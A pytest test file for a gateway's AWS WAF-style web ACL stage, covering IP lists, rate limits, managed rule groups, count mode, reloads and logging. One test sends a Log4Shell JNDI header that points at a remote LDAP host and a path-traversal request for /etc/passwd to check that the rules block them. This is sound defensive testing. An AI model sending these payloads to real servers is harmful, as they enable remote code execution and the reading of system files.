"""The web ACL stage of the gateway (issue 3): scenarios S5 and S7 end to end, count-only
mode, reloads that refuse a bad ACL, the WAF log, /stats, and `edgeguard waf test`.

Each test writes AWS WAFv2 JSON documents, starts the real gateway in front of a recording
origin, and sends real requests from chosen loopback source addresses (127.0.0.x, ::1).
"""
import http.client
import json
import os
import subprocess
import time

import pytest

from harness import EDGEGUARD_BIN, wait_until
from test_admin import metric

VIS = {"SampledRequestsEnabled": True, "CloudWatchMetricsEnabled": False, "MetricName": "m"}


def rule(name, priority, statement, action=None, override=None, labels=None):
    r = {"Name": name, "Priority": priority, "Statement": statement,
         "VisibilityConfig": dict(VIS, MetricName=name)}
    if override:
        r["OverrideAction"] = {override: {}}
    else:
        r["Action"] = {action: {}}
    if labels:
        r["RuleLabels"] = [{"Name": l} for l in labels]
    return r


def ipset_ref(name):
    return {"IPSetReferenceStatement": {"ARN": name}}


def either(*statements):
    return {"OrStatement": {"Statements": list(statements)}}


def write(path, doc):
    with open(path, "w") as f:
        json.dump(doc, f)
    return str(path)


def ip_set(tmp_path, name, version, addresses, envelope=False):
    body = {"Name": name, "Id": name + "-id", "IPAddressVersion": version, "Addresses": addresses,
            "ARN": f"arn:aws:wafv2:us-east-1:111122223333:global/ipset/{name}/{name}-id"}
    doc = {"IPSet": body, "LockToken": "00000000-0000-4000-8000-000000000000"} if envelope else body
    return write(tmp_path / f"{name}.json", doc)


def send(gw, path="/", source="127.0.0.1", headers=None, method="GET", body=None, v6=False):
    """One request from a chosen source address; returns (status, headers dict, body text)."""
    host, port = ("::1", gw.port6) if v6 else ("127.0.0.1", gw.port)
    conn = http.client.HTTPConnection(host, port, timeout=5,
                                      source_address=(source, 0) if not v6 else None)
    try:
        hdrs = {"Host": "api.example.com", "User-Agent": "e2e-client/1.0", "Accept": "*/*"}
        hdrs.update(headers or {})
        conn.request(method, path, body=body, headers=hdrs)
        r = conn.getresponse()
        return r.status, {k.lower(): v for k, v in r.getheaders()}, r.read().decode(errors="replace")
    finally:
        conn.close()


def waf_log(gw):
    path = os.path.join(gw.dir, "waf.log")
    if not os.path.exists(path):
        return []
    with open(path) as f:
        return [json.loads(line) for line in f if line.strip()]


S5_CONFIG = """
listeners: [{address: "127.0.0.1:{port}"}, {address: "[::1]:{port6}"}]
origins: {idp: {url: "{origin_url}"}}
behaviors: [{path: default, origin: idp, allowed_methods: ALL}]
web_acl:
  file: {acl}
  ip_sets: [{allow4}, {allow6}, {deny4}, {deny6}]
  log: {dir}/waf.log
  rate_clock_speed: 60
admin: {address: "127.0.0.1:{admin_port}", token_file: "{admin_token_file}"}
"""


def s5_acl(tmp_path, limit=10):
    return write(tmp_path / "acl.json", {
        "Name": "identity-edge", "Id": "s5", "DefaultAction": {"Allow": {}},
        "VisibilityConfig": dict(VIS, MetricName="identity-edge"),
        "Rules": [
            rule("allow-list", 0, either(ipset_ref("allow-v4"), ipset_ref("allow-v6")), "Allow"),
            rule("deny-list", 1, either(ipset_ref("deny-v4"), ipset_ref("deny-v6")), "Block"),
            rule("per-ip-rate", 2, {"RateBasedStatement": {
                "Limit": limit, "EvaluationWindowSec": 300, "AggregateKeyType": "IP"}}, "Block"),
        ]})


@pytest.fixture
def s5(gateway, origin, tmp_path):
    values = dict(
        acl=s5_acl(tmp_path),
        allow4=ip_set(tmp_path, "allow-v4", "IPV4", ["127.0.0.3/32"]),
        allow6=ip_set(tmp_path, "allow-v6", "IPV6", ["::1/128"], envelope=True),
        deny4=ip_set(tmp_path, "deny-v4", "IPV4", ["127.0.0.2/32"]),
        # ::1 is on both lists: the allow list runs first and wins.
        deny6=ip_set(tmp_path, "deny-v6", "IPV6", ["::1/128", "2001:db8::/32"]),
        origin_url=origin.url)
    return gateway(S5_CONFIG, **values), values


def test_s5_allow_list_deny_list_and_per_ip_rate_limit(s5, origin):
    gw, values = s5
    # The deny list blocks before anything reaches the identity service.
    status, _, body = send(gw, "/", source="127.0.0.2", method="POST", body=b"{}",
                           headers={"X-Amz-Target": "AWSCognitoIdentityProviderService.InitiateAuth"})
    assert status == 403 and "blocked by the web ACL" in body
    # IPv6: on both lists, the allow list (priority 0) wins.
    assert send(gw, "/", v6=True)[0] == 200
    # Per-IP rate limit: 10 requests per 5 minutes (the test's clock runs 60x faster).
    for i in range(10):
        assert send(gw, f"/auth/{i}", source="127.0.0.1")[0] == 200, i
    assert send(gw, "/auth/over", source="127.0.0.1")[0] == 403
    # Another address has its own count; the allow-listed address is never rate limited.
    assert send(gw, "/auth/x", source="127.0.0.4")[0] == 200
    for _ in range(12):
        assert send(gw, "/auth/trusted", source="127.0.0.3")[0] == 200
    # Released once the 5-minute window (5 s here) has slid past the burst.
    wait_until(lambda: send(gw, "/auth/later", source="127.0.0.1")[0] == 200, timeout=12,
               interval=0.5, what="the rate limit to release 127.0.0.1")
    assert not any(r.path == "/auth/over" for r in origin.wait_requests(1))

    records = waf_log(gw)
    blocked = [r for r in records if r["action"] == "BLOCK"]
    assert {r["terminatingRuleId"] for r in blocked} == {"deny-list", "per-ip-rate"}
    rate = next(r for r in blocked if r["terminatingRuleId"] == "per-ip-rate")
    assert rate["terminatingRuleType"] == "RATE_BASED"
    assert rate["rateBasedRuleList"][0]["limitValue"] == "127.0.0.1"
    assert rate["httpRequest"]["clientIp"] == "127.0.0.1"
    assert rate["httpRequest"]["uri"] == "/auth/over"
    assert {"name": "Host", "value": "api.example.com"} in rate["httpRequest"]["headers"]

    stats = gw.stats()
    assert metric(stats, "edgeguard_waf_rule_requests_total", acl="identity-edge",
                  rule="deny-list", outcome="blocked") == 1
    assert metric(stats, "edgeguard_waf_rule_requests_total", acl="identity-edge",
                  rule="per-ip-rate", outcome="blocked") >= 1
    # 127.0.0.1 and 127.0.0.4 (the allow-listed 127.0.0.3 and the denied .2 never reach it).
    assert metric(stats, "edgeguard_waf_rate_tracked_keys", acl="identity-edge",
                  rule="per-ip-rate") == 2
    assert metric(stats, "edgeguard_waf_rate_bytes_per_key", acl="identity-edge",
                  rule="per-ip-rate") == 64


def test_s5_operator_adds_an_abuser_to_the_deny_list(s5):
    gw, values = s5
    assert send(gw, "/", source="127.0.0.9")[0] == 200
    ip_set_path = values["deny4"]
    doc = json.load(open(ip_set_path))
    doc["Addresses"].append("127.0.0.9/32")
    write(ip_set_path, doc)
    assert gw.admin("POST", "/reload").status_code == 200
    assert send(gw, "/", source="127.0.0.9")[0] == 403
    assert send(gw, "/", source="127.0.0.8")[0] == 200


def test_a_bad_acl_is_refused_and_the_old_one_keeps_serving(s5):
    gw, values = s5
    acl = json.load(open(values["acl"]))
    acl["Rules"][2]["Statement"]["RateBasedStatement"]["EvaluationWindowSec"] = 30
    write(values["acl"], acl)
    r = gw.admin("POST", "/reload")
    assert r.status_code == 400
    assert "Rules[2].Statement.RateBasedStatement.EvaluationWindowSec: 30 is not one of 60, 120, 300, 600" in r.text
    assert send(gw, "/", source="127.0.0.2")[0] == 403  # the old ACL still blocks
    check = subprocess.run([EDGEGUARD_BIN, "check", "-c", gw.config_path], capture_output=True,
                           text=True)
    assert check.returncode == 1
    assert "web_acl.file" in check.stderr and "EvaluationWindowSec" in check.stderr


S7_CONFIG = """
listeners: [{address: "127.0.0.1:{port}"}]
origins: {api: {url: "{origin_url}"}}
behaviors: [{path: default, origin: api, allowed_methods: ALL}]
web_acl: {file: {acl}, ip_sets: [{reputation}], log: {dir}/waf.log, rate_clock_speed: 60, mode: {mode}}
admin: {address: "127.0.0.1:{admin_port}", token_file: "{admin_token_file}"}
"""


def s7_acl(tmp_path, bad_inputs_override):
    managed = lambda name: {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": name}}
    return write(tmp_path / "acl.json", {
        "Name": "api-perimeter", "DefaultAction": {"Allow": {}},
        "VisibilityConfig": dict(VIS, MetricName="api-perimeter"),
        "Rules": [
            rule("reputation", 0, managed("AWSManagedRulesAmazonIpReputationList"), override="None"),
            rule("core", 1, managed("AWSManagedRulesCommonRuleSet"), override="None"),
            rule("bad-inputs", 2, managed("AWSManagedRulesKnownBadInputsRuleSet"),
                 override=bad_inputs_override),
            rule("flood", 3, {"RateBasedStatement": {"Limit": 20, "EvaluationWindowSec": 60,
                                                     "AggregateKeyType": "IP"}}, "Block"),
        ]})


@pytest.fixture
def s7(gateway, origin, tmp_path):
    values = dict(acl=s7_acl(tmp_path, "Count"), origin_url=origin.url, mode="enforce",
                  reputation=ip_set(tmp_path, "AWSManagedIPReputationList", "IPV4", ["127.0.0.66/32"]))
    return gateway(S7_CONFIG, **values), values


def test_s7_managed_groups_count_then_block(s7, origin, tmp_path):
    gw, values = s7
    jndi = {"X-Api-Version": "${jndi:ldap://198.51.100.7/a}"}
    # Known bad inputs in Count mode: the request goes through, the log says what matched.
    assert send(gw, "/orders", headers=jndi)[0] == 200
    rec = waf_log(gw)[-1]
    assert rec["action"] == "ALLOW"
    assert {"name": "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header"} in rec["labels"]
    assert any(g["ruleGroupId"] == "AWSManagedRulesKnownBadInputsRuleSet" for g in rec["ruleGroupList"])
    # Switched to Block by changing OverrideAction and reloading.
    s7_acl(tmp_path, "None")
    assert gw.admin("POST", "/reload").status_code == 200
    status, _, _ = send(gw, "/orders", headers=jndi)
    assert status == 403
    assert waf_log(gw)[-1]["terminatingRuleId"] == "Log4JRCE_HEADER"
    # The reputation list and the core rule set block on their own; a clean request passes.
    assert send(gw, "/orders", source="127.0.0.66")[0] == 403
    assert send(gw, "/file?name=..%2f..%2fetc%2fpasswd")[0] == 403
    status, _, _ = send(gw, "/orders?id=42")
    assert status == 200
    assert origin.last().path == "/orders"


def test_s7_flood_blocks_while_over_and_releases_below(s7):
    gw, _ = s7
    statuses = [send(gw, "/search", source="127.0.0.20")[0] for _ in range(25)]
    assert statuses[:20] == [200] * 20 and set(statuses[20:]) == {403}
    assert send(gw, "/search", source="127.0.0.21")[0] == 200
    wait_until(lambda: send(gw, "/search", source="127.0.0.20")[0] == 200, timeout=10,
               interval=0.3, what="the flood rule to release 127.0.0.20")


def test_a_ten_minute_window_releases_on_the_second(gateway, origin, tmp_path):
    # 600 s window, limit 20; the limiter's clock runs 60x faster, so the window is 10 s here
    # and one limiter second is 17 ms. The flood is released 600 limiter seconds after the
    # request that put it over the limit ages out: 10 s after the burst, within a few limiter
    # seconds (AWS: about 10 s late; interpolated sub-windows here would be up to 59 s late).
    acl = write(tmp_path / "acl.json", {
        "Name": "window", "DefaultAction": {"Allow": {}}, "VisibilityConfig": VIS,
        "Rules": [rule("flood", 0, {"RateBasedStatement": {
            "Limit": 20, "EvaluationWindowSec": 600, "AggregateKeyType": "IP"}}, "Block")]})
    gw = gateway(S7_CONFIG.replace("ip_sets: [{reputation}], ", ""), acl=acl,
                 origin_url=origin.url, mode="enforce")
    first = time.monotonic()
    statuses = [send(gw, "/search", source="127.0.0.30")[0] for _ in range(30)]
    last = time.monotonic()
    assert statuses[:20] == [200] * 20 and set(statuses[20:]) == {403}

    def limited():
        return any("127.0.0.30" in r["keys"] for r in gw.admin("GET", "/waf/rate-limited").json()["rules"])

    time.sleep(max(0.0, first + 9.7 - time.monotonic()))
    assert limited(), "released before the window had passed"
    while limited() and time.monotonic() < last + 11:
        time.sleep(0.005)
    released = time.monotonic()
    # Request 10 (the 11th newest of 30) must age out; it was sent between first and last.
    assert first + 10 - 0.05 <= released <= last + 10 + 0.15, (released - first, last - first)
    assert send(gw, "/search", source="127.0.0.30")[0] == 200


def test_count_only_mode_never_blocks_but_logs(gateway, origin, tmp_path):
    values = dict(acl=s7_acl(tmp_path, "None"), origin_url=origin.url, mode="count",
                  reputation=ip_set(tmp_path, "AWSManagedIPReputationList", "IPV4", ["127.0.0.66/32"]))
    gw = gateway(S7_CONFIG, **values)
    assert send(gw, "/orders", source="127.0.0.66")[0] == 200
    rec = waf_log(gw)[-1]
    assert rec["action"] == "BLOCK" and rec["edgeguardCountOnly"] is True


def test_allow_with_custom_headers_reaches_the_origin(gateway, origin, tmp_path):
    acl = write(tmp_path / "acl.json", {
        "Name": "tagging", "DefaultAction": {"Allow": {}}, "VisibilityConfig": VIS,
        "Rules": [{"Name": "tag", "Priority": 0, "VisibilityConfig": VIS,
                   "Statement": {"ByteMatchStatement": {
                       "SearchString": "L2FwaS8=", "FieldToMatch": {"UriPath": {}},
                       "TextTransformations": [{"Priority": 0, "Type": "NONE"}],
                       "PositionalConstraint": "STARTS_WITH"}},
                   "Action": {"Allow": {"CustomRequestHandling": {"InsertHeaders": [
                       {"Name": "verified", "Value": "yes"}]}}}}]})
    gw = gateway("""
listeners: [{address: "127.0.0.1:{port}"}]
origins: {app: {url: "{origin_url}"}}
behaviors: [{path: default, origin: app, origin_request_policy: AllViewer}]
web_acl: {file: {acl}, search_strings: base64}
""", acl=acl, origin_url=origin.url)
    assert send(gw, "/api/x", headers={"x-amzn-waf-verified": "forged"})[0] == 200
    assert origin.last().header_values("x-amzn-waf-verified") == ["yes"]
    assert send(gw, "/other")[0] == 200
    assert origin.last().header("x-amzn-waf-verified") != "yes"  # only the matching rule inserts


def test_waf_test_command_shows_every_rule_and_the_action(tmp_path):
    acl = s5_acl(tmp_path)
    deny = ip_set(tmp_path, "deny-v4", "IPV4", ["203.0.113.0/24"])
    deny6 = ip_set(tmp_path, "deny-v6", "IPV6", ["2001:db8::/32"])
    allow = ip_set(tmp_path, "allow-v4", "IPV4", ["192.0.2.0/24"])
    allow6 = ip_set(tmp_path, "allow-v6", "IPV6", ["2001:db8:1::/48"], envelope=True)
    args = [EDGEGUARD_BIN, "waf", "test", "--acl", acl]
    for s in (deny, deny6, allow, allow6):
        args += ["--ip-set", s]
    r = subprocess.run(args + ["--client-ip", "203.0.113.5", "--url", "/login?x=1",
                               "-H", "User-Agent: curl/8"], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    lines = r.stdout.splitlines()
    assert "  allow-list: no match" in lines
    assert "  deny-list: MATCH -> BLOCK (terminating)" in lines
    assert "terminating rule: deny-list" in lines
    assert "action: BLOCK (response 403)" in lines
    assert not any(l.startswith("  per-ip-rate") for l in lines)  # never reached

    broken = json.load(open(acl))
    broken["Rules"][1]["Priority"] = 0
    write(tmp_path / "broken.json", broken)
    r = subprocess.run([EDGEGUARD_BIN, "waf", "test", "--acl", str(tmp_path / "broken.json")]
                       + sum((["--ip-set", s] for s in (deny, deny6, allow, allow6)), []),
                       capture_output=True, text=True)
    assert r.returncode == 1
    assert "Rules[1].Priority: priority 0 is used by another rule; priorities must be unique" in r.stderr
